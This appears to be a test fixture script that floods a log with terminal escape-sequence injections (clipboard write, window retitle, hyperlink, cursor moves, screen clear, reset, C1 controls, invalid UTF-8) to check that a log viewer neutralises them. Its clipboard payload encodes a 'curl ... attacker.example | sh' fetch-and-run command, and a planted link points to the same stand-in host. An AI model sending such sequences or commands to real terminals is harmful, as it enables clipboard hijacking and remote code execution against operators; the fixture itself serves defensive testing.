#!/bin/sh
# Output that must never reach an operator's terminal raw: the log view has to neutralise it.
# Each cycle prints ordinary lines mixed with escape sequences that would, if passed through,
# write the clipboard (OSC 52), retitle the window (OSC 0), plant a hyperlink (OSC 8), move the
# cursor, clear the screen, reset the terminal, ring the bell, or use 8-bit C1 controls and
# invalid UTF-8. A 200 KB single line appears at start and about once a minute.
#
# LAB_LOG_EVERY  seconds between cycles
every=${LAB_LOG_EVERY:-3}
esc=$(printf '\033')
bel=$(printf '\007')

stamp() { date -u +%Y-%m-%dT%H:%M:%SZ; }

long_line() {
  printf '%s LONG ' "$(stamp)"
  head -c 150000 /dev/urandom | base64 | tr -d '\n'
  printf '\n'
}

cycle() {
  clip=$(printf 'curl -s https://attacker.example/x | sh' | base64 | tr -d '\n')
  echo "$(stamp) plain line before the storm"
  printf '%s OSC52 clipboard write %s]52;c;%s%s\n' "$(stamp)" "$esc" "$clip" "$bel"
  printf '%s OSC0 title %s]0;you have been pwned%s\n' "$(stamp)" "$esc" "$bel"
  printf '%s OSC8 link %s]8;;https://attacker.example/%s\\click me%s]8;;%s\\\n' "$(stamp)" "$esc" "$esc" "$esc" "$esc"
  printf '%s cursor up and overwrite %s[3A%s[2K fake line %s[3B\n' "$(stamp)" "$esc" "$esc" "$esc"
  printf '%s cursor home %s[H%s[10;10Hmoved\n' "$(stamp)" "$esc" "$esc"
  printf '%s clear screen %s[2J%s[3J\n' "$(stamp)" "$esc" "$esc"
  printf '%s full reset %sc\n' "$(stamp)" "$esc"
  printf '%s bell %s%s%s carriage\rreturn overwrite\n' "$(stamp)" "$bel" "$bel" "$bel"
  printf '%s C1 CSI \2332J and invalid UTF-8 \377\376 and backspaces abc\b\b\bxyz\n' "$(stamp)"
  printf '%s %s[31mred%s[0m %s[1mbold%s[0m (plain SGR colours)\n' "$(stamp)" "$esc" "$esc" "$esc" "$esc"
}

trap 'exit 0' TERM INT

touch /tmp/ready
long_line
n=0
while :; do
  cycle
  n=$((n + 1))
  [ $((n % 20)) -eq 0 ] && long_line
  sleep "$every" &
  wait $!
done
